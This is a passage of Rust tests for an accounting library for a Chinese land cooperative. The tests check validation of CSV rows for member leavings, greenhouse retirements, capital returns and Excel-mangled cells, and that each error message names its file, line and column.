            assert_eq!(what, "event member_left");
            assert_eq!(
                reason,
                "H09 has no row in members.csv to write it on: it is written on the row that adds H09, in the same folder"
            );
        }
        other => panic!("{other:?}"),
    }
    // A leaving written twice, or given in the member's joining, cannot be written either.
    let reason = |events: Vec<Event>| match BookFolder::new(settings.clone(), events) {
        Err(Error::Folder(FolderError::NotWritable { reason, .. })) => reason,
        other => panic!("{other:?}"),
    };
    let joined = folder
        .events()
        .iter()
        .find(|e| matches!(&e.event, Event::MemberJoined { member } if member.id.as_str() == "H02"))
        .map(|e| e.event.clone())
        .unwrap_or_else(|| panic!("H02 joins"));
    let h02_left = Event::MemberLeft {
        member: ok("H02".parse()),
        date: date!(2019 - 06 - 30),
    };
    assert_eq!(
        reason(vec![joined.clone(), h02_left.clone(), h02_left]),
        "the row of H02 in members.csv has it already"
    );
    let Event::MemberJoined { mut member } = joined else {
        panic!("{joined:?}")
    };
    member.left = Some(date!(2019 - 06 - 30));
    assert_eq!(
        reason(vec![Event::MemberJoined { member }]),
        "a member who joins has no leaving date; the leaving is an event of its own (member_left), written in the 退社日期 left cell of the member's row"
    );
    // Without the new columns, the reference reads and runs as before.
    let reference = reference();
    assert!(reference.events().iter().all(|e| !matches!(
        e.event,
        Event::MemberLeft { .. } | Event::GreenhouseRetired { .. }
    )));
}

/// Each bad cell of the new columns is a problem naming its file, line and column: a date
/// that does not exist, a date out of the folder's year or before the joining (the
/// building), proceeds below zero or without a retirement, a contract running past its
/// member's leaving, and a harvest, a cost or work on a greenhouse after its last day.
#[test]
fn bad_leavings_and_retirements_name_the_file_line_and_column() {
    let edit = |file: &'static str, from: &'static str, to: &'static str| {
        leaving_folder(replace_once(file, from, to))
    };
    let cases = [
        (
            edit("成员.csv", "2019/6/30", "2019/6/31"),
            "成员.csv, line 3, column 6 \"退社日期 left\": expected a date such as 2019-03-15 or 2019/3/15 (there is no 2019-06-31), found \"2019/6/31\"",
        ),
        (
            edit("成员.csv", "2019/6/30", "2020/1/15"),
            "成员.csv, line 3, column 6 \"退社日期 left\": expected a date in 2019, the year of policy.csv, found \"2020/1/15\"",
        ),
        (
            edit("成员.csv", "2019/1/1,2019/6/30", "2019/7/1,2019/6/30"),
            "成员.csv, line 3, column 6 \"退社日期 left\": the last day of membership, 2019-06-30, is before the day the member joined, 2019-07-01; expected a day on or after it",
        ),
        (
            edit("contracts.csv", "2019/1/1,2019/6/30", "2019/1/1,2020/6/30"),
            "contracts.csv, line 3, column 6 \"end\": contract LZ02 runs to 2020-06-30, past 2019-06-30, the last day of member H02 (成员.csv line 3); a member leaves only once their contracts have ended: end the contract by 2019-06-30 (its 终止日期 end, or a 合同解除 end row of land_changes.csv dated 2019-06-30 or before), or leave the member's 退社日期 left empty",
        ),
        (
            edit("大棚.csv", "2019/7/10", "2019/2/30"),
            "大棚.csv, line 2, column 10 \"拆除日期 retired\": expected a date such as 2019-03-15 or 2019/3/15 (there is no 2019-02-30), found \"2019/2/30\"",
        ),
        (
            edit("大棚.csv", "2019/7/10", "2020/7/10"),
            "大棚.csv, line 2, column 10 \"拆除日期 retired\": expected a date in 2019, the year of policy.csv, found \"2020/7/10\"",
        ),
        (
            edit("大棚.csv", "2019/7/10", "2019/1/9"),
            "大棚.csv, line 2, column 10 \"拆除日期 retired\": the last day in use, 2019-01-09, is before the day the greenhouse was built, 2019-01-10; expected a day on or after it",
        ),
        (
            edit("大棚.csv", "\"¥80,000.00\"", "-800"),
            "大棚.csv, line 2, column 11 \"残值收入 proceeds\": expected an amount in yuan of zero or more, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"-800\"",
        ),
        (
            edit("大棚.csv", "2019/7/10,", ","),
            "大棚.csv, line 2, column 11 \"残值收入 proceeds\": only a greenhouse taken out of use (with 拆除日期 retired) has proceeds; this row takes no value here; leave the cell empty",
        ),
        (
            edit("harvests.csv", "2019/7/10", "2019/8/1"),
            "harvests.csv, line 2, column 1 \"date\": greenhouse GH01 is out of use after 2019-07-10 (拆除日期 retired, 大棚.csv line 2); a harvest on 2019-08-01 is after it: date it on or before 2019-07-10, or take the greenhouse out of use later",
        ),
    ];
    for (files, expected) in cases {
        assert_eq!(problems(&files), [expected]);
    }
    // A cost and work on it after its last day, as the rows of their files.
    let mut files = leaving_folder(|_, text| text);
    files.push((
        "costs.csv".into(),
        "date,kind,amount,charged_to,payment\n2019/7/10,other,100,GH01,bank\n2019/7/11,other,100,GH01,bank\n"
            .as_bytes()
            .to_vec(),
    ));
    files.push((
        "labour.csv".into(),
        "date,member,task,basis,quantity,rate,kind,sheet_date\n2019/7/10,H01,GH01,days,1,150,seasonal,2019/7/31\n2019/7/12,H01,GH01,days,1,150,seasonal,2019/7/31\n"
            .as_bytes()
            .to_vec(),
    ));
    assert_eq!(
        problems(&files),
        [
            "costs.csv, line 3, column 1 \"date\": greenhouse GH01 is out of use after 2019-07-10 (拆除日期 retired, 大棚.csv line 2); a cost on 2019-07-11 is after it: date it on or before 2019-07-10, or take the greenhouse out of use later",
            "labour.csv, line 3, column 1 \"date\": greenhouse GH01 is out of use after 2019-07-10 (拆除日期 retired, 大棚.csv line 2); work on 2019-07-12 is after it: date it on or before 2019-07-10, or take the greenhouse out of use later",
        ]
    );
    // A payment to a member, or their pay, booked after their last day.
    let mut files = edit("payments.csv", "2019/12/31,rent,H01", "2019/7/1,rent,H02");
    files.push((
        "labour.csv".into(),
        "date,member,task,basis,quantity,rate,kind,sheet_date\n2019/6/30,H02,GH01,days,1,150,seasonal,2019/7/5\n"
            .as_bytes()
            .to_vec(),
    ));
    assert_eq!(
        problems(&files),
        [
            "labour.csv, line 2, column 8 \"sheet_date\": the last day of member H02 is 2019-06-30 (退社日期 left, 成员.csv line 3); their pay for work booked on 2019-07-05 is after it: nothing is booked to a member's accounts after their last day",
            "payments.csv, line 3, column 1 \"date\": the last day of member H02 is 2019-06-30 (退社日期 left, 成员.csv line 3); a payment booked on 2019-07-01 is after it: nothing is booked to a member's accounts after their last day",
        ]
    );
    // Rent not accrued up to the leaving: the book's refusal names the member's row.
    let files = edit(
        "adjustments.csv",
        "2019/6/30,rent_accrual,2019/1/1,2019/6/30,LZ02\n",
        "",
    );
    let folder = ok(BookFolder::from_files(&files));
    let err = folder.run().err().unwrap_or_else(|| panic!("accepted"));
    let Error::Folder(error) = &err else {
        panic!("{err:?}")
    };
    let [problem] = error.problems() else {
        panic!("{err}")
    };
    assert_eq!((problem.file.as_str(), problem.line), ("成员.csv", Some(3)));
    assert!(
        matches!(problem.kind, ProblemKind::Rejected { .. }),
        "{problem}"
    );
}

/// A folder of 2019 in which H02 contributes 2,000.00 of capital, leaves on 30 June and is
/// paid it back on 15 July, and H01's land-share contract RG01 (2 mu × 1 share × 2,500.00 =
/// 5,000.00 of capital) ends on 30 June and its capital is paid back on 1 July; `payments`
/// is the payments file's rows after the header.
fn capital_return_folder(payments: &str) -> Vec<(String, Vec<u8>)> {
    let files = [
        (
            "policy.csv",
            "setting,value\ncooperative,示例合作社\nyear,2019\nevent_prefix,ex\nclose,no\n".to_string(),
        ),
        (
            "accounts.csv",
            "code,name_zh,name_en\n521.RENT,土地租金,Land rent\n".to_string(),
        ),
        (
            "成员.csv",
            "成员编号 member,姓名 name,人口 persons,村 village,入社日期 joined,退社日期 left\n\
             H01,王建国,3,高格庄,2018/1/1,\n\
             H02,李秀英,2,高格庄,2019/1/1,2019/6/30\n"
                .to_string(),
        ),
        (
            "parcels.csv",
            "parcel,owner,area,village,land_class,registered\n\
             P1,H01,5,高格庄,旱地,2018/1/1\n\
             P2,H02,3.6,高格庄,旱地,2019/1/1\n\
             P3,H01,2,高格庄,旱地,2018/1/1\n"
                .to_string(),
        ),
        (
            "contracts.csv",
            "contract,member,parcel,area,start,end,kind,yuan_per_mu,shares_per_mu,value_per_share,guaranteed_per_share,payment,pay_by,charge_to\n\
             LZ01,H01,P1,5,2019/1/1,2028/12/31,流转,1000,,,,in_arrears,12-31,521.RENT\n\
             LZ02,H02,P2,3.6,2019/1/1,2019/6/30,流转,1000,,,,in_arrears,06-30,521.RENT\n\
             RG01,H01,P3,2,2019/1/1,2019/6/30,入股,,1,2500,0,in_arrears,12-31,521.RENT\n"
                .to_string(),
        ),
        (
            "adjustments.csv",
            "date,kind,from,to,refs\n2019/6/30,rent_accrual,2019/1/1,2019/6/30,LZ02\n"
                .to_string(),
        ),
        (
            "收付款.csv",
            format!(
                "日期 date,类别 kind,对象 party,金额 amount,账户 account,股金来源 capital_source,合同编号 contract\n{payments}"
            ),
        ),
    ];
    files
        .into_iter()
        .map(|(name, text)| (name.to_string(), text.into_bytes()))
        .collect()
}

/// The payments of [`capital_return_folder`] that read and apply: the capital comes in on
/// 2 January, H02's rent is paid on their last day, and both returns follow.
const CAPITAL_RETURN_ROWS: &str = "\
2019/1/2,股金,H01,10000,银行,,\n\
2019/1/2,股金,H02,2000,银行,,\n\
2019/6/30,租金,H02,1785.21,银行,,\n\
2019/7/15,退股金,H02,2000,银行,,\n\
2019/7/1,capital_returned,H01,\"5,000.00\",bank,,RG01\n";

fn yuan(text: &str) -> landpool::Yuan {
    ok(text.parse::<landpool::Yuan>())
}

/// A member who leaves on 30 June with 2,000.00 of money capital in 301 is paid it back
/// from the bank on 15 July (a `退股金 capital_returned` row of the payments file): the
/// return comes after the leaving, 301.H02 goes from 2,000.00 to 0.00, the bank (10,214.79
/// on 30 June: 12,000.00 in, 1,785.21 rent out; 5,214.79 after RG01's 5,000.00 on 1 July)
/// goes down by 2,000.00 to 3,214.79, and the members' accounts show H02's 2,000.00 in and
/// out. Before, the kind was refused as not one of the payments file's.
#[test]
fn money_capital_is_paid_back_to_a_leaver_after_their_last_day() {
    use landpool::{report, Event, Yuan};
    use time::macros::date;
    let folder = ok(BookFolder::from_files(&capital_return_folder(
        CAPITAL_RETURN_ROWS,
    )));
    let after = sources(&folder, |date| date >= Some(date!(2019 - 06 - 30)));
    let expected = [
        ("rent_accrued", "adjustments.csv", 2),
        ("rent_paid", "收付款.csv", 4),
        ("member_left", "成员.csv", 3),
        ("capital_returned", "收付款.csv", 6),
        ("capital_returned", "收付款.csv", 5),
    ]
    .map(|(kind, file, line)| (kind.to_string(), file.to_string(), line));
    assert_eq!(after, expected);
    let returned = folder
        .events()
        .iter()
        .find(|e| e.source.line == 5 && e.source.file == "收付款.csv")
        .map(|e| e.event.clone());
    assert_eq!(
        returned,
        Some(Event::CapitalReturned {
            member: ok("H02".parse()),
            date: date!(2019 - 07 - 15),
            amount: yuan("2000"),
            from: landpool::CashAccount::Bank,
            contract: None,
            source: landpool::CapitalSource::Other,
        })
    );
    let book = ok(folder.run());
    let h02: landpool::MemberId = ok("H02".parse());
    assert_eq!(
        book.member(&h02).and_then(|m| m.left),
        Some(date!(2019 - 06 - 30))
    );
    let balance = |code: &str, day: time::Date| {
        ok(book
            .journal()
            .balance(&ok(landpool::ledger::AccountCode::new(code)), day))
    };
    // 301 is credited: its balance is negative.
    assert_eq!(balance("301.H02", date!(2019 - 06 - 30)), yuan("-2000"));
    assert_eq!(balance("301.H02", date!(2019 - 12 - 31)), Yuan::ZERO);
    assert_eq!(balance("102", date!(2019 - 06 - 30)), yuan("10214.79"));
    assert_eq!(balance("102", date!(2019 - 07 - 14)), yuan("5214.79"));
    assert_eq!(balance("102", date!(2019 - 07 - 15)), yuan("3214.79"));
    let rows = ok(report::member_accounts(&book, 2019));
    let row = rows
        .iter()
        .find(|r| r.member == h02)
        .unwrap_or_else(|| panic!("H02 has a row"));
    assert_eq!(
        (
            row.capital_opening,
            row.other_capital_increase,
            row.other_capital_decrease,
            row.other_capital_closing,
            row.capital_closing
        ),
        (
            Yuan::ZERO,
            yuan("2000"),
            yuan("2000"),
            Yuan::ZERO,
            Yuan::ZERO
        )
    );
}

/// The capital of H01's land-share contract RG01 (5,000.00), which ended on 30 June, paid
/// back on 1 July: 301.H01 goes from 15,000.00 to 10,000.00, the members' accounts show
/// 15,000.00 in and 5,000.00 out, and the book's register has the return against RG01.
#[test]
fn a_land_share_contracts_capital_is_paid_back_after_it_ends() {
    use landpool::{report, Event, Yuan};
    use time::macros::date;
    let folder = ok(BookFolder::from_files(&capital_return_folder(
        CAPITAL_RETURN_ROWS,
    )));
    let returned = folder
        .events()
        .iter()
        .find(|e| e.source.line == 6 && e.source.file == "收付款.csv")
        .map(|e| e.event.clone());
    assert_eq!(
        returned,
        Some(Event::CapitalReturned {
            member: ok("H01".parse()),
            date: date!(2019 - 07 - 01),
            amount: yuan("5000"),
            from: landpool::CashAccount::Bank,
            contract: Some(ok("RG01".parse())),
            source: landpool::CapitalSource::Other,
        })
    );
    let book = ok(folder.run());
    let h01: landpool::MemberId = ok("H01".parse());
    let balance = |day: time::Date| {
        ok(book
            .journal()
            .balance(&ok(landpool::ledger::AccountCode::new("301.H01")), day))
    };
    assert_eq!(balance(date!(2019 - 06 - 30)), yuan("-15000"));
    assert_eq!(balance(date!(2019 - 07 - 01)), yuan("-10000"));
    let returns: Vec<(String, Option<String>)> = book
        .capital_returns(&h01)
        .iter()
        .map(|r| {
            (
                r.amount.to_string(),
                r.contract.as_ref().map(ToString::to_string),
            )
        })
        .collect();
    assert_eq!(returns, [("5000.00".to_string(), Some("RG01".to_string()))]);
    let rows = ok(report::member_accounts(&book, 2019));
    let row = rows
        .iter()
        .find(|r| r.member == h01)
        .unwrap_or_else(|| panic!("H01 has a row"));
    assert_eq!(
        (
            row.other_capital_increase,
            row.other_capital_decrease,
            row.capital_closing
        ),
        (yuan("15000"), yuan("5000"), yuan("10000"))
    );
    assert_eq!(row.capital_opening, Yuan::ZERO);
}

/// Capital-return rows with problems of their own are refused on their cells, all together:
/// a member not in the members file, a day out of the year, an amount of zero or with a
/// third decimal, a contract not in the contracts file, another member's, a transfer
/// contract, a source that is no source or poverty-relief for a contract's capital, and a
/// contract on a row that is no capital return.
#[test]
fn bad_capital_returns_name_the_file_line_and_column() {
    let rows = "\
2019/1/2,股金,H01,10000,银行,,\n\
2019/1/2,股金,H02,2000,银行,,\n\
2019/6/30,租金,H02,1785.21,银行,,\n\
2019/7/15,退股金,H09,2000,银行,,\n\
2020/1/5,退股金,H02,2000,银行,,\n\
2019/7/15,退股金,H02,0,银行,,\n\
2019/7/15,退股金,H02,1999.995,银行,,\n\
2019/7/15,退股金,H01,100,银行,,RG09\n\
2019/7/15,退股金,H02,100,银行,,RG01\n\
2019/7/15,退股金,H01,100,银行,,LZ01\n\
2019/7/15,退股金,H02,100,银行,gift,\n\
2019/7/15,退股金,H01,100,银行,扶贫资产,RG01\n\
2019/7/15,租金,H01,100,银行,,LZ01\n";
    assert_eq!(
        problems(&capital_return_folder(rows)),
        [
            "收付款.csv, line 5, column 3 \"对象 party\": no member \"H09\" in 成员.csv",
            "收付款.csv, line 6, column 1 \"日期 date\": expected a date in 2019, the year of policy.csv, found \"2020/1/5\"",
            "收付款.csv, line 7, column 4 \"金额 amount\": expected an amount in yuan above zero, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"0\"",
            "收付款.csv, line 8, column 4 \"金额 amount\": expected an amount in yuan above zero, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"1999.995\"",
            "收付款.csv, line 9, column 7 \"合同编号 contract\": no contract \"RG09\" in contracts.csv",
            "收付款.csv, line 10, column 7 \"合同编号 contract\": contract RG01 is member H01's, not H02's; a capital return names a land-share contract of the member paid back",
            "收付款.csv, line 11, column 7 \"合同编号 contract\": contract LZ01 is a transfer (流转), not a land-share contract (入股): it holds no capital; leave the contract empty to return money capital",
            "收付款.csv, line 12, column 6 \"股金来源 capital_source\": expected one of 扶贫资产 poverty_relief, 其他 other, found \"gift\"",
            "收付款.csv, line 13, column 6 \"股金来源 capital_source\": the capital of contract RG01 is land-use rights taken in as shares, not poverty-relief assets: leave the source empty (其他 other)",
            "收付款.csv, line 14, column 7 \"合同编号 contract\": only a capital return names a contract; this row takes no value here; leave the cell empty",
        ]
    );
}

/// What the book refuses of a capital return that reads well is reported on its row, as
/// other refusals are: more than the member holds in 301, and a land-share contract's
/// capital before the contract has ended.
#[test]
fn a_capital_return_the_book_refuses_names_its_row() {
    use time::macros::date;
    let more = CAPITAL_RETURN_ROWS.replace("退股金,H02,2000,", "退股金,H02,2500,");
    let early =
        CAPITAL_RETURN_ROWS.replace("2019/7/1,capital_returned", "2019/6/29,capital_returned");
    /// The rows, the line refused, the book's error for the event and its message.
    type Case = (
        String,
        u64,
        fn(landpool::EventId) -> PoolError,
        &'static str,
    );
    let cases: [Case; 2] = [
        (
            more,
            5,
            |event| PoolError::CapitalReturnExceeds {
                event,
                member: "H02".parse().unwrap_or_else(|e| panic!("{e}")),
                date: date!(2019 - 07 - 15),
                asked: yuan("2500"),
                capital: "the money capital of H02 (301.H02 less the land-share capital not yet returned)".to_string(),
                available: yuan("2000"),
                on: date!(2019 - 07 - 15),
            },
            "of 2500.00 to H02 on 2019-07-15: the money capital of H02 (301.H02 less the land-share capital not yet returned) is only 2000.00 on 2019-07-15; a member is paid back at most the capital they hold",
        ),
        (
            early,
            6,
            |event| PoolError::ContractNotEnded {
                event,
                date: date!(2019 - 06 - 29),
                contract: "RG01".parse().unwrap_or_else(|e| panic!("{e}")),
                end: date!(2019 - 06 - 30),
            },
            "on 2019-06-29: contract RG01 runs until 2019-06-30; its land-share capital goes back on or after its last day",
        ),
    ];
    for (rows, line, refusal, message) in cases {
        let files = capital_return_folder(&rows);
        let folder = ok(BookFolder::from_files(&files));
        let event = folder
            .events()
            .iter()
            .find(|e| e.source.file == "收付款.csv" && e.source.line == line)
            .map(|e| e.id.clone())
            .unwrap_or_else(|| panic!("no event from line {line}"));
        let err = folder.run().err().unwrap_or_else(|| panic!("accepted"));
        let Error::Folder(error) = &err else {
            panic!("{err:?}")
        };
        let [problem] = error.problems() else {
            panic!("{err}")
        };
        assert_eq!(
            problem.kind,
            ProblemKind::Rejected {
                event: event.clone(),
                error: Box::new(Error::Pool(refusal(event.clone()))),
            }
        );
        assert_eq!(
            problem.to_string(),
            format!(
                "收付款.csv, line {line}: the book refuses this row: capital return {event} {message}"
            )
        );
    }
}

/// A folder with capital returns, written from its events and read back, gives the same
/// events (and ids), with the returns as 退股金 rows of payments.csv: the contract in its
/// column, and a poverty-relief source in 股金来源.
#[test]
fn capital_returns_round_trip_through_payments_csv() {
    let rows = CAPITAL_RETURN_ROWS
        .replace(
            "2019/1/2,股金,H02,2000,银行,,",
            "2019/1/2,股金,H02,2000,银行,扶贫资产,",
        )
        .replace(
            "退股金,H02,2000,银行,,",
            "退股金,H02,2000,现金,poverty_relief,",
        );
    let folder = ok(BookFolder::from_files(&capital_return_folder(&rows)));
    let events: Vec<landpool::Event> = folder.events().iter().map(|e| e.event.clone()).collect();
    let made = ok(BookFolder::new(folder.settings().clone(), events.clone()));
    let files = ok(made.to_files());
    let payments = &files
        .iter()
        .find(|(name, _)| name == "payments.csv")
        .unwrap_or_else(|| panic!("payments.csv"))
        .1;
    let lines: Vec<&str> = payments.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(
        lines,
        [
            "日期 date,类别 kind,对象 party,金额 amount,利息 interest,账户 account,股金来源 capital_source,资本溢价 premium,合同编号 contract,备注 note",
            "2019-01-02,股金,H01,10000.00,,银行,,,,",
            "2019-01-02,股金,H02,2000.00,,银行,扶贫资产,,,",
            "2019-06-30,租金,H02,1785.21,,银行,,,,",
            "2019-07-01,退股金,H01,5000.00,,银行,,,RG01,",
            "2019-07-15,退股金,H02,2000.00,,现金,扶贫资产,,,",
        ]
    );
    let files: Vec<(String, Vec<u8>)> = files
        .into_iter()
        .map(|(name, text)| (name, text.into_bytes()))
        .collect();
    let reread = ok(BookFolder::from_files(&files));
    let again: Vec<(String, landpool::Event)> = reread
        .events()
        .iter()
        .map(|e| (e.id.to_string(), e.event.clone()))
        .collect();
    let first: Vec<(String, landpool::Event)> = folder
        .events()
        .iter()
        .map(|e| (e.id.to_string(), e.event.clone()))
        .collect();
    assert_eq!(again, first);
    let book = ok(reread.run());
    assert_eq!(book.digest(), ok(folder.run()).digest());
    let h02: landpool::MemberId = ok("H02".parse());
    let report = ok(landpool::report::member_accounts(&book, 2019));
    let row = report
        .iter()
        .find(|r| r.member == h02)
        .unwrap_or_else(|| panic!("H02 has a row"));
    assert_eq!(
        (
            row.poverty_relief_increase,
            row.poverty_relief_decrease,
            row.capital_closing
        ),
        (yuan("2000"), yuan("2000"), landpool::Yuan::ZERO)
    );
}

/// A folder in which `members.csv` and `parcels.csv` have ids made of digits and the other
/// files refer to them as `payments` and `contracts` say.
fn digit_id_folder(members: &str, contracts: &str, payments: &str) -> Vec<(String, Vec<u8>)> {
    let files = [
        ("policy.csv", "setting,value\ncooperative,示例\nyear,2019\nclose,no\n".to_string()),
        ("members.csv", format!("member,name,persons,village,joined\n{members}")),
        (
            "parcels.csv",
            "parcel,owner,area,village,land_class,registered\n007,H01,2,高格庄,旱地,2019/1/1\n"
                .to_string(),
        ),
        (
            "contracts.csv",
            format!("contract,member,parcel,area,start,end,yuan_per_mu,payment,pay_by,charge_to\n{contracts}"),
        ),
        ("payments.csv", format!("date,kind,party,amount\n{payments}")),
    ];
    files
        .into_iter()
        .map(|(name, text)| (name.to_string(), text.into_bytes()))
        .collect()
}

/// Excel drops the leading zeros of an id made of digits when it saves a file: member
/// `001` of members.csv becomes `1` in payments.csv (or the other way round). The reference
/// is still refused, never matched silently, but its problem says which id it would be and
/// why. An id that differs in any other way gets no such hint.
#[test]
fn an_id_whose_leading_zeros_excel_dropped_is_refused_with_the_id_it_lost_them_from() {
    let members = "001,王建国,3,高格庄,2019/1/1\nH01,李秀英,2,高格庄,2019/1/1\n";
    let contract = "LZ01,H01,7,2,2019/1/1,2028/12/31,1000,in_arrears,12-31,521\n";
    let payments = "2019/1/2,股金,1,2000\n2019/1/2,股金,0001,2000\n2019/1/2,股金,H1,2000\n";
    assert_eq!(
        problems(&digit_id_folder(members, contract, payments)),
        [
            "contracts.csv, line 2, column 3 \"parcel\": no parcel \"7\" in parcels.csv, but there is parcel \"007\": Excel drops the leading zeros of an id made only of digits when it saves a file; write the id the same way in every file, and format the column as Text in Excel so that it keeps them",
            "payments.csv, line 2, column 3 \"party\": no member \"1\" in members.csv, but there is member \"001\": Excel drops the leading zeros of an id made only of digits when it saves a file; write the id the same way in every file, and format the column as Text in Excel so that it keeps them",
            "payments.csv, line 3, column 3 \"party\": no member \"0001\" in members.csv, but there is member \"001\": Excel drops the leading zeros of an id made only of digits when it saves a file; write the id the same way in every file, and format the column as Text in Excel so that it keeps them",
            "payments.csv, line 4, column 3 \"party\": no member \"H1\" in members.csv",
        ]
    );
    // members.csv saved by Excel, payments.csv not: the same hint, the other way round.
    let members = "1,王建国,3,高格庄,2019/1/1\nH01,李秀英,2,高格庄,2019/1/1\n";
    let contract = "LZ01,H01,007,2,2019/1/1,2028/12/31,1000,in_arrears,12-31,521\n";
    assert_eq!(
        problems(&digit_id_folder(members, contract, "2019/1/2,股金,001,2000\n")),
        ["payments.csv, line 2, column 3 \"party\": no member \"001\" in members.csv, but there is member \"1\": Excel drops the leading zeros of an id made only of digits when it saves a file; write the id the same way in every file, and format the column as Text in Excel so that it keeps them"]
    );
}

/// The problems of a small folder whose members.csv has `member` as H01's id, `persons`
/// as their persons and `joined` as the day they joined, and whose payments.csv has one
/// contribution of `amount` from `party`.
fn excel_cells(
    member: &str,
    persons: &str,
    joined: &str,
    party: &str,
    amount: &str,
) -> Vec<String> {
    let files = [
        (
            "policy.csv",
            "setting,value\ncooperative,示例\nyear,2019\nclose,no\n".to_string(),
        ),
        (
            "members.csv",
            format!(
                "member,name,persons,village,joined\n{member},王建国,{persons},高格庄,{joined}\n"
            ),
        ),
        (
            "payments.csv",
            format!("date,kind,party,amount\n2019/1/2,股金,{party},{amount}\n"),
        ),
    ];
    let files: Vec<(String, Vec<u8>)> = files
        .into_iter()
        .map(|(name, text)| (name.to_string(), text.into_bytes()))
        .collect();
    match BookFolder::from_files(&files) {
        Ok(_) => Vec::new(),
        Err(_) => problems(&files),
    }
}

/// A long id (a parcel's cadastral code, an ID card number) that Excel shows in scientific
/// notation is saved so, its digits lost: the problem says so, rather than only that an id
/// is letters and digits (which the accountant typed).
#[test]
fn an_id_excel_wrote_in_scientific_notation_is_refused_saying_so() {
    let hint = ": Excel shows a long number in scientific notation and saves it so, its digits lost; format the column as Text in Excel and type the ids again";
    assert_eq!(
        excel_cells("1.23457E+11", "3", "2019/1/1", "1.23457E+11", "2000"),
        [
            format!("members.csv, line 2, column 1 \"member\": expected a member id of ASCII letters, digits and '-', starting with A-Z or a digit, such as H01, found \"1.23457E+11\"{hint}"),
            format!("payments.csv, line 2, column 3 \"party\": expected a member id of ASCII letters, digits and '-', starting with A-Z or a digit, such as H01, found \"1.23457E+11\"{hint}"),
        ]
    );
    // Another bad id has no such hint.
    assert_eq!(
        excel_cells("H01", "3", "2019/1/1", "H.01", "2000"),
        ["payments.csv, line 2, column 3 \"party\": expected a member id of ASCII letters, digits and '-', starting with A-Z or a digit, such as H01, found \"H.01\""]
    );
}

/// Digits and punctuation typed with a Chinese input method in full-width mode (`２０００`,
/// `2000。00`) look like the expected form in the message, so the problem names them.
#[test]
fn a_cell_refused_for_full_width_characters_names_them() {
    let hint = |chars: &str| {
        format!(": it has full-width characters ({chars}), which look like letters, digits or punctuation but are not; type them half-width (半角, with English punctuation)")
    };
    assert_eq!(
        excel_cells("Ｈ０１", "３", "２０１９/1/1", "H01", "2000。00"),
        [
            format!("members.csv, line 2, column 1 \"member\": expected a member id of ASCII letters, digits and '-', starting with A-Z or a digit, such as H01, found \"Ｈ０１\"{}", hint("\"Ｈ\", \"０\", \"１\"")),
            format!("members.csv, line 2, column 3 \"persons\": expected a whole number of 1 or more, such as 3, found \"３\"{}", hint("\"３\"")),
            format!("members.csv, line 2, column 5 \"joined\": expected a date such as 2019-03-15 or 2019/3/15, found \"２０１９/1/1\"{}", hint("\"２\", \"０\", \"１\", …")),
            "payments.csv, line 2, column 3 \"party\": no member \"H01\" in members.csv".to_string(),
            format!("payments.csv, line 2, column 4 \"amount\": expected an amount in yuan above zero, with at most two decimals, such as 1,409.50 or ¥1409.50, found \"2000。00\"{}", hint("\"。\"")),
        ]
    );
}

/// Dates as Excel writes them in other forms than year first, refused with what to write:
/// with a time (a cell formatted as date and time), as Excel's serial number of the day (a
/// date cell formatted as a number), or with the year last (a regional format, where
/// 3/5/2019 is 5 March on some computers and 3 May on others: never guessed).
#[test]
fn a_date_excel_wrote_in_another_form_is_refused_saying_what_to_write() {
    let expected = "members.csv, line 2, column 5 \"joined\": expected a date such as 2019-03-15 or 2019/3/15, found";
    let year_last = ": the year comes first; a date with the year last is in a regional format (Excel writes dates so on some computers), in which 3/5/2019 is 5 March on some computers and 3 May on others; write it as";
    for (joined, problem) in [
        ("2019/3/5 0:00", format!("{expected} \"2019/3/5 0:00\": it has a time after the date (Excel writes one when the cell is formatted as a date and time); the cell takes the date only, such as 2019/3/5")),
        ("2019-03-05T08:30:00", format!("{expected} \"2019-03-05T08:30:00\": it has a time after the date (Excel writes one when the cell is formatted as a date and time); the cell takes the date only, such as 2019/3/5")),
        ("43529", format!("{expected} \"43529\": 43529 is the number Excel keeps for the day 2019-03-05, which it writes when a date cell is formatted as a number; format the column as a date")),
        ("3/5/2019", format!("{expected} \"3/5/2019\"{year_last} 2019年3月5日 or 2019年5月3日, which Excel keeps as it is")),
        ("15-3-2019", format!("{expected} \"15-3-2019\"{year_last} 2019年3月15日, which Excel keeps as it is")),
        ("05/05/2019", format!("{expected} \"05/05/2019\"{year_last} 2019年5月5日, which Excel keeps as it is")),
        ("20190305", format!("{expected} \"20190305\"")),
    ] {
        assert_eq!(excel_cells("H01", "3", joined, "H01", "2000"), [problem], "{joined}");
    }
}

/// A sheet kept in Excel often has a title row (a merged cell, `成员名册`) above its header
/// row, and saved as CSV the title is line 1. Before, that gave a problem for the title as
/// an unknown column, one per required column as missing, and two per data row: nine
/// problems for a file of two members, none saying what was wrong. Now one problem says
/// that the header row is further down, and where.
#[test]
fn a_title_row_above_the_header_row_is_one_problem_naming_the_header_row() {
    let rows = "H01,王建国,3,高格庄,2019/1/1\nH02,李秀英,2,高格庄,2019/1/1\n";
    assert_eq!(
        problems(&members_folder(&format!("成员名册,,,,\n成员编号,姓名,人口,村,入社日期\n{rows}"))),
        ["members.csv, line 1: this row names none of the columns of members.csv, and line 2 does: a file starts with its header row; delete the row above it (a title, as a sheet may have)"]
    );
    assert_eq!(
        problems(&members_folder(&format!("高格庄合作社,,,,\n成员名册 2019,,,,\n\nmember,name,persons,village,joined\n{rows}"))),
        ["members.csv, line 1: this row names none of the columns of members.csv, and line 4 does: a file starts with its header row; delete the rows above it (a title, as a sheet may have)"]
    );
    assert_eq!(
        problems(&members_folder(&format!("成员名册,,,,\n\nmember,name,persons,village,joined\n{rows}"))),
        ["members.csv, line 1: this row names none of the columns of members.csv, and line 3 does: a file starts with its header row; delete the row above it (a title, as a sheet may have)"]
    );
    // A header row naming no column, with no header row below it, is refused as before.
    assert_eq!(
        problems(&members_folder(&format!("编号,名字,人数,地方,日子\n{rows}")))[0],
        "members.csv, line 1: missing column \"成员编号 member\" (the member's id: ASCII letters, digits and -, such as H01)"
    );
}

/// Excel takes an id such as `3-1` for a date and saves it as one (`3月1日` on a Chinese
/// Windows, `1-Mar` on an English one): the problem says so, rather than only that an id
/// is letters, digits and `-` (which `3-1` was).
#[test]
fn an_id_excel_turned_into_a_date_is_refused_saying_so() {
    let expected = "payments.csv, line 2, column 3 \"party\": expected a member id of ASCII letters, digits and '-', starting with A-Z or a digit, such as H01, found";
